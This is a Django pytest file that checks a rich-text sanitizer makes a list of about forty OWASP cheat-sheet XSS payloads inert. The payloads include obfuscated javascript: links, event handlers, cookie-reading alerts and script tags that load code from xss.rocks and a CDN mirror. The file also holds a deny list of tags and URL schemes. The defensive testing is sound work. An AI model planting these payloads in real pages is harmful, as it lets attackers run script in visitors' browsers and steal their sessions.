"""Rich text: whatever an editor pastes, scripts, handlers, javascript: links and styles never reach a page.

The payloads come from the OWASP XSS Filter Evasion Cheat Sheet
(https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html).
"""

import html.parser
import re

import pytest
from django.urls import reverse

from registry.models import Agency, Page
from tests.editorial.conftest import admin_url, change_form, form_data
from tests.factories import AgencyFactory

OWASP_PAYLOADS = [
    "<SCRIPT SRC=https://cdn.jsdelivr.net/gh/Moksh45/host-xss.rocks/index.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    "&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083"
    '&#0000083&#0000039&#0000041">',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;'
    '&#40;&#39;&#88;&#83;&#83;&#39;&#41;">Click Me!</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27'
    '&#x58&#x53&#x53&#x27&#x29">hex</a>',
    "<a href=\"jav\tascript:alert('XSS');\">tab</a>",
    "<a href=\"jav&#x09;ascript:alert('XSS');\">encoded tab</a>",
    "<a href=\"jav&#x0A;ascript:alert('XSS');\">encoded newline</a>",
    "<a href=\" &#14;  javascript:alert('XSS');\">spaces and meta chars</a>",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<p style=\"background-image: url(javascript:alert('XSS'))\">styled paragraph</p>",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>cell</td></tr></TABLE>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">expression</DIV>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">data URL</a>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "<a href=\"vbscript:msgbox('XSS')\">vbscript</a>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0">',
]

FORBIDDEN_TAGS = {"script", "iframe", "object", "embed", "meta", "base", "style", "svg", "img", "input", "body", "link"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class Inspector(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag} {name}=")
            if name == "style":
                self.problems.append(f"{tag} style=")
            if name in ("href", "src", "background", "action") and value:
                # Browsers ignore whitespace and control characters inside a scheme.
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                if squeezed.startswith(BAD_SCHEMES):
                    self.problems.append(f"{tag} {name}={value!r}")


def assert_inert(markup):
    inspector = Inspector()
    inspector.feed(markup)
    inspector.close()
    assert inspector.problems == [], markup
    assert "<script" not in markup.lower()
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", markup, re.IGNORECASE)


def test_the_list_holds_at_least_twenty_payloads():
    assert len(OWASP_PAYLOADS) >= 20


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_payload_saved_through_the_admin_is_inert_in_storage_and_on_the_public_page(
    client, login, publisher, payload
):
    editor_client = login(publisher)
    data = form_data(editor_client.get(admin_url(Page, "add")))
    body = f"<p>Before.</p>{payload}<p>After.</p>"
    data.update(title="About", slug="about", body=body, _transition="publish")
    assert editor_client.post(admin_url(Page, "add"), data).status_code == 302

    stored = Page.objects.get(slug="about").body
    assert_inert(stored)
    assert "<p>Before.</p>" in stored  # (an unclosed <script> may swallow the rest, as a browser would)

    page = client.get(reverse("site:page", kwargs={"slug": "about"}))
    assert page.status_code == 200
    content = page.content.decode()
    main = content[content.index("<main") : content.index("</main>")]
    assert_inert(main)


def test_every_payload_at_once_in_an_agency_description_is_stored_inert(login, editor):
    agency = AgencyFactory()
    client = login(editor)
    _, data = change_form(client, agency)
    data["description"] = "\n".join(OWASP_PAYLOADS)
    assert client.post(admin_url(agency, "change"), data).status_code == 302
    assert_inert(Agency.objects.get(pk=agency.pk).description)


def test_allowed_formatting_survives_and_links_get_a_safe_rel(login, publisher):
    agency = AgencyFactory()
    client = login(publisher)
    _, data = change_form(client, agency)
    data["description"] = (
        '<h2>Mandate</h2><p><strong>Refugees</strong> and <a href="https://www.unhcr.org">more</a></p>'
    )
    client.post(admin_url(agency, "change"), data)
    stored = Agency.objects.get(pk=agency.pk).description
    assert "<h2>Mandate</h2>" in stored and "<strong>Refugees</strong>" in stored
    assert 'href="https://www.unhcr.org"' in stored and 'rel="noopener noreferrer nofollow"' in stored


def test_the_body_field_uses_the_offline_prose_editor(admin_client):
    response = admin_client.get(admin_url(Page, "add"))
    content = response.content.decode()
    assert "data-django-prose-editor-configurable" in content
    assert "/static/django_prose_editor/editor.js" in content
    assert "https://" not in content.split("importmap")[1].split("</script>")[0]
